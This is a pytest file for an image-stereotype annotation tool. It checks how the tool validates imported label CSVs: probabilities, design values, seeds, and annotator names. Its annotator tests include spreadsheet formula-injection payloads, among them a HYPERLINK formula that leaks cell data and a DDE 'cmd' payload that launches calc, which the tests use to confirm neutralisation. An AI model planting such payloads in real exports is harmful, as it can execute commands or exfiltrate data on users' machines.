"""Hostile labels files and draws: every one ends in one line naming the line and column (or
the option) and what to do, with nothing of the file stored.

* a drawn batch's ``probability`` that cannot be one (0, negative, NaN, infinite, text, above 1,
  a census row's other than 1);
* an ``annotator`` cell that a spreadsheet runs (``=HYPERLINK(...)``, ``+``, ``-``, ``@``) or
  whose colon would read as a kind: a cell names a person, whose labels stay human;
* a draw's ``--seed`` or ``--sample`` out of range.
"""

from __future__ import annotations

import csv
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from diptych.cli.main import main
from diptych.core.engine import run_probe
from diptych.core.labels import annotator_kind
from diptych.core.spreadsheet_cells import neutralise_cell
from diptych.core.store import RunRecord, open_store
from diptych.testing import ScriptedImageGenerator, ScriptedParams

# carpenter × editor, occupation images of one person: 6 people.
SINGLE = {
    "masculine": ["carpenter"],
    "feminine": ["editor"],
    "aspects": ["occupation"],
    "setting": "single",
}
N_PEOPLE = 6


def call(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as exit_info:
        main(list(args))
    out, err = capsys.readouterr()
    return int(exit_info.value.code or 0), out, err


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    return tmp_path / "ws"


@pytest.fixture
def run(ws: Path, scripted: None) -> RunRecord:
    with open_store(ws) as store:
        return run_probe(
            store, "pst", [ScriptedImageGenerator(ScriptedParams())], probe_params=SINGLE
        )


def annotate(
    capsys: pytest.CaptureFixture[str], ws: Path, run: RunRecord, *args: str
) -> tuple[int, str, str]:
    return call(capsys, "--store", str(ws), "annotate", run.id, *args)


def read_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def write_rows(path: Path, rows: list[dict[str, Any]]) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path


def human_labels(ws: Path, run: RunRecord) -> list[str]:
    with open_store(ws) as store:
        return [lab.annotator for lab in store.labels(run.id) if lab.kind == "human"]


def one_line(err: str) -> str:
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    assert "Traceback" not in err and "internal error" not in err
    return lines[0]


# --- probabilities ----------------------------------------------------------------------------


def drawn_batch(
    capsys: pytest.CaptureFixture[str], ws: Path, run: RunRecord, tmp_path: Path
) -> list[dict[str, str]]:
    """The whole run drawn uniformly (probability 1 each), labelled as stereotyped."""
    path = tmp_path / "drawn.csv"
    code, _, err = annotate(
        capsys, ws, run, "--template", str(path), "--sample", str(N_PEOPLE), "--seed", "3"
    )
    assert code == 0, err
    rows = read_rows(path)
    assert len(rows) == N_PEOPLE and {r["probability"] for r in rows} == {"1.0"}
    return [{**r, "label": r["stereotype"]} for r in rows]


BAD_PROBABILITIES = [
    ("census", "0", "is not a probability in (0, 1]"),
    ("census", "-3", "is not a probability in (0, 1]"),
    ("census", "NaN", "is not a probability in (0, 1]"),
    ("census", "inf", "is not a probability in (0, 1]"),
    ("census", "0.5", "a census row's probability is 1"),
    ("census", "one", "'one' is not a number"),
    ("uniform", "0", "is not a probability in (0, 1]"),
    ("uniform", "-3", "is not a probability in (0, 1]"),
    ("uniform", "nan", "is not a probability in (0, 1]"),
    ("uniform", "-inf", "is not a probability in (0, 1]"),
    ("uniform", "1.5", "is not a probability in (0, 1]"),
    ("uniform", "=1/2", "'=1/2' is not a number"),
    ("uniform", "", "a uniform row needs its probability"),
    ("active", "1e-400", "is not a probability in (0, 1]"),
]


@pytest.mark.parametrize(("design", "probability", "why"), BAD_PROBABILITIES)
def test_a_probability_that_cannot_be_one_refuses_the_file(
    design: str,
    probability: str,
    why: str,
    ws: Path,
    run: RunRecord,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    rows = drawn_batch(capsys, ws, run, tmp_path)
    rows = [{**r, "design": design, "probability": "1"} for r in rows]
    rows[2] = {**rows[2], "probability": probability}  # data line 3: line 4 of the file
    path = write_rows(tmp_path / "filled.csv", rows)
    before = path.read_bytes()
    code, out, err = annotate(capsys, ws, run, "--import", str(path))
    line = one_line(err)
    assert code == 2 and out == ""
    assert "filled.csv, line 4, column probability: " in line and why in line, line
    assert "nothing of it was stored" in line
    assert human_labels(ws, run) == []
    assert path.read_bytes() == before


def test_a_design_that_is_none_refuses_the_file(
    ws: Path, run: RunRecord, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = drawn_batch(capsys, ws, run, tmp_path)
    rows[0] = {**rows[0], "design": "stratified"}
    code, _, err = annotate(capsys, ws, run, "--import", str(write_rows(tmp_path / "f.csv", rows)))
    line = one_line(err)
    assert code == 2 and "f.csv, line 2, column design: 'stratified' is none of census" in line
    assert human_labels(ws, run) == []


def test_good_probabilities_are_kept_and_a_chosen_row_reads_none(
    ws: Path, run: RunRecord, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    rows = drawn_batch(capsys, ws, run, tmp_path)
    rows = [{**r, "design": "active", "probability": "0.25"} for r in rows]
    rows[0] = {**rows[0], "design": "census", "probability": ""}  # a census is 1 by definition
    rows[1] = {**rows[1], "design": "chosen", "probability": "not read"}
    code, _, err = annotate(capsys, ws, run, "--import", str(write_rows(tmp_path / "f.csv", rows)))
    assert code == 0, err
    with open_store(ws) as store:
        designs = sorted(
            (lab.design.design, lab.design.probability)
            for lab in store.labels(run.id)
            if lab.design is not None
        )
    assert designs == [("active", 0.25)] * 4 + [("census", 1.0), ("chosen", None)]


# --- annotator cells --------------------------------------------------------------------------

FORMULA_NAMES = [
    '=HYPERLINK("http://example.com/?"&A1,"x")',
    "+alice:1",
    "-bob: nights",
    "@carol",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("quoted", [True, False], ids=["as diptych writes", "raw"])
def test_a_formula_in_the_annotator_cell_is_a_person_s_name(
    quoted: bool, ws: Path, run: RunRecord, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    template = tmp_path / "template.csv"
    code, _, err = annotate(capsys, ws, run, "--template", str(template))
    assert code == 0, err
    rows = read_rows(template)
    assert len(rows) == N_PEOPLE
    # Each name labels the first person; the first also the second, so names share a person.
    filled = []
    for i, name in enumerate(FORMULA_NAMES):
        cell = neutralise_cell(name) if quoted else name
        assert (cell != name) == quoted  # every one is a formula to a spreadsheet
        filled.append({**rows[0], "annotator": cell, "label": "feminine"})
        if i == 0:
            filled.append({**rows[1], "annotator": cell, "label": "masculine"})
    path = write_rows(tmp_path / "filled.csv", filled)
    code, out, err = annotate(capsys, ws, run, "--import", str(path))
    assert code == 0, err
    stored = human_labels(ws, run)
    assert Counter(stored) == Counter(
        {f"human:{FORMULA_NAMES[0]}": 2, **{f"human:{n}": 1 for n in FORMULA_NAMES[1:]}}
    )
    assert {annotator_kind(a) for a in stored} == {"human"}
    # Out again: the export carries each person's label under the name as it was given, and
    # every cell a spreadsheet would run is quoted.
    export = tmp_path / "export.csv"
    code, _, err = call(
        capsys, "--store", str(ws), "export", run.id, "--format", "csv", "-o", str(export)
    )
    assert code == 0, err
    exported = read_rows(export)
    header = list(exported[0])
    for name in FORMULA_NAMES:
        assert f"label.single.human:{name}" in header
    first = next(r for r in exported if r["meta.image"] == rows[0]["image"])
    assert {first[f"label.single.human:{n}"] for n in FORMULA_NAMES} == {"feminine"}
    # The file imported again (as a spreadsheet saves it back) replaces, never adds.
    code, _, err = annotate(capsys, ws, run, "--import", str(path))
    assert code == 0, err
    assert Counter(human_labels(ws, run)) == Counter(stored)


def test_an_annotator_cell_that_reads_as_a_kind_refuses_the_file(
    ws: Path, run: RunRecord, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    template = tmp_path / "template.csv"
    code, _, err = annotate(capsys, ws, run, "--template", str(template))
    assert code == 0, err
    rows = [{**r, "annotator": "human:ann", "label": "feminine"} for r in read_rows(template)]
    rows[3] = {**rows[3], "annotator": "faces:x"}
    path = write_rows(tmp_path / "filled.csv", rows)
    code, _, err = annotate(capsys, ws, run, "--import", str(path))
    line = one_line(err)
    assert code == 2
    assert "filled.csv, line 5, column annotator: 'faces:x' is written as an automatic" in line
    assert human_labels(ws, run) == []
    with open_store(ws) as store:
        assert store.labels(run.id) == []
    # 'human:NAME' is a person's id as written.
    rows[3] = {**rows[3], "annotator": "human:ann"}
    code, _, err = annotate(capsys, ws, run, "--import", str(write_rows(path, rows)))
    assert code == 0, err
    assert human_labels(ws, run) == ["human:ann"] * N_PEOPLE


# --- a draw's options -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("args", "why"),
    [
        (["--sample", "3", "--design", "uniform", "--seed", "-1"], "--seed"),
        (["--sample", "3", "--seed", str(2**64)], "--seed"),
        (["--sample", "0", "--design", "uniform"], "needs --sample N"),
        (["--sample", "-2", "--design", "active"], "needs --sample N"),
        (["--sample", "-5", "--design", "census"], "leave out --sample"),
    ],
)
def test_a_draw_option_out_of_range_is_one_line_and_writes_nothing(
    args: list[str],
    why: str,
    ws: Path,
    run: RunRecord,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    path = tmp_path / "drawn.csv"
    code, _, err = annotate(capsys, ws, run, "--template", str(path), *args)
    line = one_line(err)
    assert code == 2 and why in line, line
    assert not path.exists()


def test_the_largest_seed_draws(
    ws: Path, run: RunRecord, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "drawn.csv"
    code, out, err = annotate(
        capsys, ws, run, "--template", str(path), "--sample", "2", "--seed", str(2**64 - 1)
    )
    assert code == 0, err
    rows = read_rows(path)
    assert len(rows) == 2 and {r["draw"][-16:] for r in rows} == {"f" * 16}


def test_the_draw_refuses_a_negative_seed_in_the_core(
    ws: Path, run: RunRecord, tmp_path: Path
) -> None:
    from diptych.core.errors import UsageError
    from diptych.core.workspace import Workspace

    with Workspace.open(ws) as workspace, pytest.raises(UsageError, match="from 0 to 2"):
        workspace.labels.sample(run.id, tmp_path / "d.csv", n=2, design="uniform", seed=-1)
    assert not (tmp_path / "d.csv").exists()


@pytest.mark.parametrize("drawn", [False, True], ids=["template", "drawn batch"])
def test_a_template_whose_images_cannot_be_written_is_not_left_half_written(
    drawn: bool, ws: Path, run: RunRecord, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "t.csv"
    blocked = tmp_path / "a-file"
    blocked.write_text("not a directory")
    draw = ["--sample", "2", "--seed", "1"] if drawn else []
    args = ["--template", str(path), "--images", str(blocked / "images"), *draw]
    code, _, err = annotate(capsys, ws, run, *args)
    line = one_line(err)
    assert code == 2 and "cannot write" in line
    assert not path.exists()  # so the same command, its directory fixed, goes through
    code, _, err = annotate(capsys, ws, run, "--template", str(path), *draw)
    assert code == 0, err
